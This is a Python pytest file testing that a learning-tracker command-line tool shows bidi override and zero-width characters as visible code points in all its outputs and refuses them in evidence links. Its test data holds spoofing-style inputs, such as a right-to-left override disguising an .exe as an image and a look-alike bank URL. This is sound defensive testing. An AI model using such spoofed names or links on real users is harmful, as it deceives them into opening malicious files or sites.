@pytest.mark.parametrize("char", BIDI_AND_HIDDEN, ids=lambda char: f"U+{ord(char):04X}")
def test_bidi_controls_and_invisible_characters_are_shown_everywhere(
    learner: Learner, isolated_home: Path, char: str
) -> None:
    """A bidi override, a zero-width character or U+2028 in a note, an orphan id, a review
    and a piece of evidence from the file reaches no terminal, Markdown, HTML or calendar
    output as it is: each shows its code point, and no link is made of the evidence."""
    data = planted(learner)
    at = datetime(2026, 11, 3, 9, 0)
    data["events"] = [
        {"at": at, "kind": "note", "action": IDS[0], "note": f"see{char}gpj.exe"},
        {"at": at, "kind": "done", "action": f"gone{char}id"},
    ]
    data["reviews"] = [{"week": 1, "on": date(2026, 11, 3), "went_well": f"a{char}b"}]
    data["evidence"] = [{"at": at, "action": IDS[0], "ref": f"https://bank.example{char}.evil/"}]
    write(isolated_home, data)
    mark = f"<U+{ord(char):04X}>"
    for command in (
        ["today"],
        ["report"],
        ["portfolio"],
        ["doctor"],
        ["report", "--format", "markdown"],
        ["today", "--format", "markdown"],
        ["report", "--format", "html"],
        ["export", "ics"],
    ):
        result = learner.run(*command, today=DAY)
        assert result.exit_code == 0, (command, result.output)
        assert char not in result.stdout + result.stderr, command
        shown = result.stdout.replace("&lt;", "<").replace("&gt;", ">").replace("\\", "")
        if command not in (["export", "ics"], ["today", "--format", "markdown"]):
            assert mark in shown, command  # the views that show notes or orphans
    page = learner.ok("report", "--format", "html", today=DAY).stdout
    assert "bank.example" in page and 'href="https://bank.example' not in page
    # --json keeps the data as it is, as an escape that reads back the same.
    assert f"\\u{ord(char):04x}" in learner.ok("today", "--json", today=DAY).stdout


@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\u200b", "\u2028", "\ufeff"])
def test_evidence_with_a_bidi_control_or_an_invisible_character_is_refused(
    learner: Learner, isolated_home: Path, char: str
) -> None:
    """A link or a path that would show something other than what it is: a usage error
    naming the character (by its code point), and nothing saved."""
    started(learner)
    before = progress_file(isolated_home).read_bytes()
    for reference in (f"https://example.com/{char}moc.evil", f"photo{char}gnp.exe"):
        result = learner.run("evidence", IDS[0], reference, today=DAY)
        assert result.exit_code == 2, result.output
        assert f"U+{ord(char):04X}" in result.stderr and len(result.stderr.splitlines()) == 1
    assert progress_file(isolated_home).read_bytes() == before
